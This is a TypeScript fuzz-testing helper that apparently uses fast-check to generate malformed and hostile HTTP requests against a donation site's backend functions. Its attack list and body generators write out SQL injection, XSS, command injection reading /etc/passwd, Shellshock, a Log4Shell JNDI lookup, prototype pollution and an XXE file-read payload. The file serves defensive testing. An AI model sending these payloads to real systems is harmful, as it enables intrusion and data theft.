import fc from "fast-check";
import { aContactMessage, aGroup, aHelpRequest, anApplication } from "#backend/testing/forms.ts";

export type HostileRequest = {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
};

const attacks = [
  "' or 1=1 --",
  "'; drop table gifts; --",
  "1); select pg_sleep(30); --",
  "$1",
  "{{7*7}}",
  "#{process.env}",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "../../../../etc/passwd",
  "%00",
  "\u0000",
  "\ud800",
  "\u202e\u2066",
  "a@b.example\r\nBcc: everybody@elsewhere.example",
  "|cat /etc/passwd",
  "() { :;}; echo",
  `$${"{"}jndi:ldap://elsewhere.example/a}`,
  "__proto__",
  "constructor",
  "//elsewhere.example",
  "javascript:alert(1)",
  "😀".repeat(2000),
  "A".repeat(20_000),
];

const attack = fc.oneof(fc.constantFrom(...attacks), fc.string(), fc.string({ unit: "binary" }));
const anything = fc.oneof(attack, fc.jsonValue({ maxDepth: 3 }), fc.double(), fc.constant(null));
const json = (value: unknown) => JSON.stringify(value) ?? "null";

/** A whole form of attacks, with at least one field that no rule lets through. */
const brokenForm = <Form extends object>(form: Form, broken: (keyof Form & string)[]) =>
  fc
    .tuple(
      fc.constantFrom(...broken),
      fc.constantFrom(null, "", "   ", 0, [], {}, true, "x".repeat(10_001)),
      fc.dictionary(fc.constantFrom(...Object.keys(form)), attack, { maxKeys: 4 }),
      fc.dictionary(attack, anything, { maxKeys: 3 }),
    )
    .map(([field, wrong, fields, more]) => json({ ...more, ...form, ...fields, [field]: wrong }));

/** As browsers send forms by themselves: no form takes them all, and none takes these. */
const brokenEntries = (text: string) => ({
  firstName: text,
  email: `${text} @`,
  message: text,
  amount: "-1",
  frequency: text,
});

const boundary = "x";
const inParts = (entries: Record<string, string>) =>
  `${Object.entries(entries)
    .map(
      ([name, text]) =>
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`,
    )
    .join("")}--${boundary}--\r\n`;

const noJson = fc.oneof(
  fc.constantFrom(
    "",
    "null",
    "[]",
    '"text"',
    "{",
    '{"__proto__":{"email":"a@b.example"}}',
    "[".repeat(20_000),
    '{"a":'.repeat(5_000),
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "email=nobody&firstName=x",
  ),
  attack.map((text) => new URLSearchParams(brokenEntries(text)).toString()),
  attack.map((text) => inParts(brokenEntries(text))),
  fc.string({ unit: "binary" }).filter((text) => !/^\s*\d+\s*$/.test(text)),
);

const payments = fc.oneof(
  anything.map((amount) => json({ amount: { amount }, frequency: "one_time" })),
  fc
    .tuple(fc.constantFrom(-1, 0, 0.001, 1e21, "50", null, [50]), attack)
    .map(([amount, frequency]) => json({ amount, frequency })),
  attack.map((frequency) => json({ amount: 50, frequency: `${frequency}!` })),
);

/** What a donor's own pages take from somebody who has no link and is not signed in. */
const ofDonors = attack.map((text) =>
  new URLSearchParams({ key: text, action: text, name: text, amount: text }).toString(),
);

const bodies: Record<string, fc.Arbitrary<string>> = {
  "send-contact-form": brokenForm(aContactMessage, ["firstName", "lastName", "email", "message"]),
  "ask-for-help": brokenForm(aHelpRequest, ["name", "phone"]),
  "send-volunteer-application": brokenForm(anApplication, ["email", "age", "zipCode", "interests"]),
  "send-group-application": brokenForm(aGroup, ["email", "organization", "people", "days"]),
  "subscribe-newsletter": attack.map((email) => json({ email: `${email} @` })),
  giving: attack.map((email) => json({ email: `${email} @` })),
  "giving/link": ofDonors,
  "giving/details": ofDonors,
  "giving/monthly": ofDonors,
  "giving/sign-out": ofDonors,
  "monthly-gift": ofDonors,
  "update-card": ofDonors,
  "create-payment": payments,
  "gift-status": fc.oneof(
    attack.map((reference) => json({ reference })),
    anything.map((reference) => json({ reference: [reference] })),
  ),
  "campaign-progress": fc.oneof(
    attack.map((campaign) => json({ campaign })),
    anything.map((campaign) => json({ campaign: [campaign] })),
  ),
  tribute: attack.map((words) =>
    new URLSearchParams({ words, email: `${words} @`, action: "send" }).toString(),
  ),
  "stripe-webhook": fc.oneof(anything.map(json), noJson),
};

const types = fc.constantFrom(
  "application/json",
  "text/plain",
  "application/x-www-form-urlencoded",
  `multipart/form-data; boundary=${boundary}`,
  "application/json; charset=utf-16",
  "",
);

const printable = (text: string) => text.replace(/[^\x20-\x7e]/g, "?").slice(0, 2_000);

const posts = fc
  .constantFrom(...Object.keys(bodies))
  .chain((name) =>
    fc.tuple(fc.constant(name), fc.oneof({ weight: 4, arbitrary: bodies[name] ?? noJson }, noJson)),
  )
  .chain(([name, body]) =>
    fc.record({ type: types, more: attack, cookie: attack }).map(({ type, more, cookie }) => ({
      method: "POST",
      path: `/functions/v1/${name}`,
      headers: {
        "content-type": type,
        cookie: printable(cookie),
        "stripe-signature": `t=1,v1=${printable(more)}`,
        "x-forwarded-for": printable(more),
        "user-agent": printable(more),
      } as Record<string, string>,
      body: Buffer.from(body),
    })),
  );

/** What only looks at the address: tokens, references, checkouts and functions that are not there. */
const addresses = fc
  .tuple(
    fc.constantFrom("GET", "POST"),
    fc.constantFrom(
      "confirm-newsletter?token=",
      "unsubscribe-newsletter?token=",
      "gift-status?reference=",
      "monthly-gift?token=",
      "campaign-progress?campaign=",
      "tribute?token=",
      "update-card?token=",
      "giving/link?token=",
      "giving/receipt?number=",
      "giving/statement?year=",
      "giving/monthly?gift=",
      "giving/details?name=",
      "sandbox-checkout/",
      "sandbox-portal/",
      "no-such-function/",
    ),
    attack,
  )
  .map(([method, path, text]) => ({
    method,
    path: `/functions/v1/${path}${encodeURIComponent(text.toWellFormed()).slice(0, 8_000)}`,
    headers: {} as Record<string, string>,
  }));

export const hostileRequests = (count: number): HostileRequest[] =>
  fc.sample(fc.oneof({ weight: 3, arbitrary: posts }, addresses), { numRuns: count });
